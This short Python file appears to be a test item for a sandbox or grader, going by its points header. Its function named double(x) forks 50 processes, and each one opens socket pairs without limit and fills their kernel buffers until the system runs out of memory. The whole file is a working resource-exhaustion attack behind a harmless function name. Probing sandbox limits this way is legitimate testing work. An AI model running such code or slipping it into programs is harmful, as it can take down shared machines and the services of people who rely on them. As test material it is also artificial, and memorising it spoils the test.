# Full sockets that nobody reads: their buffers are the kernel's.
# points: double=0 total=7 stack=6
# %% double
import os
import socket
import time


def double(x):
    for _ in range(50):
        if os.fork() == 0:
            pairs = []
            while True:
                try:
                    pairs.append(socket.socketpair())
                except OSError:
                    time.sleep(600)
                for end in pairs[-1]:
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(bytes(1 << 16))
                    except OSError:
                        pass
    time.sleep(600)
